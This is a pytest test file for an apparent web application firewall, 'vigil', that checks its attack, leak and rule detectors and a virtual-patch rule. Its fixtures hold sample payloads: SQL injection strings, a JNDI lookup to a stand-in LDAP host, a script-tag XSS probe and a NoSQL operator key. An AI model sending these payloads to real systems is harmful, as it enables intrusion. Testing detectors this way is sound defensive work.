"""The signature layer in the inspector: attack, leak and rule detectors, and a virtual patch
overriding the learned model for the field it constrains."""

from __future__ import annotations

import datetime as dt
import random

import pytest

from vigil.behavior.decision import Mode, Verdict
from vigil.behavior.engine import Engine
from vigil.behavior.profile import profile_request
from vigil.http.model import Request, Response
from vigil.inspection.alerts import CODES, Severity
from vigil.inspection.observation import Observation
from vigil.inspection.phases import Context, Phase
from vigil.signatures.detection import Attack
from vigil.signatures.detectors import (
    CODE_NAMES,
    AttackDetector,
    Code,
    LeakDetector,
    RuleDetector,
)
from vigil.signatures.rules.ruleset import RuleSet
from vigil.signatures.rules.source import parse_rules

from ..behavior.builders import RequestBuilder, trained_engine, words

NOW = dt.datetime(2026, 6, 1, tzinfo=dt.UTC)
PATCH = """
rules:
  - id: CVE-2026-0001-login
    reference: https://example.test/advisories/CVE-2026-0001
    action: block
    route: POST /login
    fields: form.username
    require:
      regex: '^[a-z]{1,32}$'
"""


def test_every_code_is_registered_with_its_name() -> None:
    for code, name in CODE_NAMES.items():
        assert CODES[code] == name


def context_for(request: Request) -> Context:
    return Context(f"{request.method} {request.path}", request, profile_request(request))


def test_attacks_are_found_in_the_phase_of_their_field() -> None:
    request = (
        RequestBuilder()
        .post("/search")
        .query(q="1 union select 1,2")
        .header("user-agent", "${jndi:ldap://x.test/a}")
        .form(comment="<script>alert(1)</script>")
        .build()
    )
    detector = AttackDetector()
    context = context_for(request)
    head = detector.inspect(Phase.REQUEST_HEADERS, context)
    body = detector.inspect(Phase.REQUEST_BODY, context)
    assert [(a.code, a.field, a.detector) for a in head] == [
        ("V201", "query.q", "sqli"),
        ("V207", "header.user-agent", "jndi"),
    ]
    assert [(a.code, a.field, a.detector) for a in body] == [("V202", "form.comment", "xss")]
    assert head[0].severity is Severity.HIGH
    assert (
        head[0].reason
        == "query.q: expected no SQL injection, seen union select in 'union select 1,2'"
    )


def test_an_attack_in_a_key_says_so() -> None:
    request = RequestBuilder().get("/x").raw_query("user%5B%24ne%5D=1").build()
    (alert,) = AttackDetector().inspect(Phase.REQUEST_HEADERS, context_for(request))
    assert (alert.code, alert.field) == ("V208", "query.user[$ne]")
    assert "in the key" in alert.seen


@pytest.mark.parametrize(
    ("referer", "codes"),
    [("https://evil.test/lure", [("V214", "query.PHPSESSID")]), ("https://shop.test/cart", [])],
)
def test_session_parameters_are_judged_with_the_request_s_referer(
    referer: str, codes: list[tuple[str, str]]
) -> None:
    request = (
        RequestBuilder()
        .get("/login")
        .query(PHPSESSID="0123456789abcdef")
        .header("host", "shop.test")
        .header("referer", referer)
        .build()
    )
    alerts = AttackDetector().inspect(Phase.REQUEST_HEADERS, context_for(request))
    assert [(a.code, a.field) for a in alerts] == codes


def test_the_detectors_can_be_narrowed() -> None:
    request = RequestBuilder().get("/x").query(q="1 union select 1,2").build()
    assert (
        AttackDetector(frozenset({Attack.XSS})).inspect(Phase.REQUEST_HEADERS, context_for(request))
        == []
    )


def with_response(response: Response) -> Context:
    context = Context("GET /x", Request("GET", "/x"), Observation("GET", "/x", ["x"], 0, ""))
    context.response = response
    return context


@pytest.mark.parametrize(
    ("response", "phase", "found"),
    [
        (
            Response(500, [], b"You have an error in your SQL syntax"),
            Phase.RESPONSE_BODY,
            [("response.body", "sql-error", Severity.MEDIUM)],
        ),
        (
            Response(200, [], b"-----BEGIN PRIVATE KEY-----"),
            Phase.RESPONSE_BODY,
            [("response.body", "secret", Severity.HIGH)],
        ),
        (Response(200, [("content-type", "image/png")], b"ORA-00933"), Phase.RESPONSE_BODY, []),
        (
            Response(200, [("x-backend", "10.1.2.3:8080")], b""),
            Phase.RESPONSE_HEADERS,
            [("response.header.x-backend", "internal-address", Severity.LOW)],
        ),
        (Response(200, [("set-cookie", "a=10.1.2.3")], b""), Phase.RESPONSE_HEADERS, []),
        (Response(200, [], b'{"ok": true}'), Phase.RESPONSE_BODY, []),
    ],
)
def test_leaks(response: Response, phase: Phase, found: list[tuple[str, str, Severity]]) -> None:
    alerts = LeakDetector().inspect(phase, with_response(response))
    assert [(a.field, a.detector, a.severity) for a in alerts] == found
    assert all(a.code == Code.LEAK for a in alerts)


def login(username: str, password: str = "hunterpass") -> Request:
    return (
        RequestBuilder().post("/login").headers().form(username=username, password=password).build()
    )


def login_traffic(rng: random.Random) -> Request:
    return login(words(rng, 3, 8), words(rng, 8, 12))


@pytest.fixture(scope="module")
def engine() -> Engine:
    return trained_engine(400, make=login_traffic, mode=Mode.ENFORCE)


def patched(engine: Engine) -> Engine:
    patched_engine = Engine(engine.policy)
    ruleset = RuleSet.compile(parse_rules(PATCH).rules, NOW)
    patched_engine.inspector.use([RuleDetector(ruleset), AttackDetector()])
    return patched_engine


def fields_by_detector(verdict_alerts: tuple[object, ...]) -> set[tuple[str, str]]:
    return {(a.detector, a.field) for a in verdict_alerts}  # type: ignore[attr-defined]


def test_a_virtual_patch_overrides_the_learned_model_for_its_field(engine: Engine) -> None:
    long_name = "abcdefghijklmnopqrstuvwxyzabcdef"
    learned_only = engine.inspect_request(login(long_name))
    assert ("model", "form.username") in fields_by_detector(learned_only.alerts)

    with_patch = patched(engine).inspect_request(login(long_name))
    assert ("model", "form.username") not in fields_by_detector(with_patch.alerts)
    assert with_patch.verdict is Verdict.ALLOW


def test_a_virtual_patch_blocks_what_it_forbids_on_its_own(engine: Engine) -> None:
    decision = patched(engine).inspect_request(login("Tom"))
    patch_alerts = [a for a in decision.alerts if a.code == Code.PATCH]
    assert [(a.field, a.detector, a.enforced) for a in patch_alerts] == [
        ("form.username", "CVE-2026-0001-login", True)
    ]
    assert patch_alerts[0].reference == "https://example.test/advisories/CVE-2026-0001"
    assert ("model", "form.username") not in fields_by_detector(decision.alerts)
    assert decision.verdict is Verdict.BLOCK


def test_an_enforced_patch_blocks_even_while_learning(engine: Engine) -> None:
    learning = patched(engine)
    learning.set_mode(Mode.LEARN)
    assert learning.inspect_request(login("Tom")).verdict is Verdict.BLOCK
    detecting = patched(engine)
    detecting.set_mode(Mode.DETECT)
    assert detecting.inspect_request(login("Tom")).verdict is Verdict.WOULD_BLOCK


def test_fields_the_patch_does_not_name_are_still_learned(engine: Engine) -> None:
    decision = patched(engine).inspect_request(login("tom", "x' OR '1'='1"))
    found = fields_by_detector(decision.alerts)
    assert ("model", "form.password") in found
    assert ("sqli", "form.password") in found
    assert decision.verdict is Verdict.BLOCK


def test_signature_rules_raise_v200_with_their_id() -> None:
    text = "rules:\n  - id: no-evil\n    severity: medium\n    forbid: {contains: [evil]}\n"
    detector = RuleDetector(RuleSet.compile(parse_rules(text).rules, NOW))
    context = context_for(RequestBuilder().get("/x").query(q="so evil").build())
    (alert,) = detector.inspect(Phase.REQUEST_BODY, context)
    assert (alert.code, alert.detector, alert.severity, alert.enforced) == (
        "V200",
        "no-evil",
        Severity.MEDIUM,
        False,
    )
    assert (
        alert.reason
        == "query.q: expected no value that contains one of 1 literals (rule no-evil), seen contains 'evil' in 'so evil'"
    )
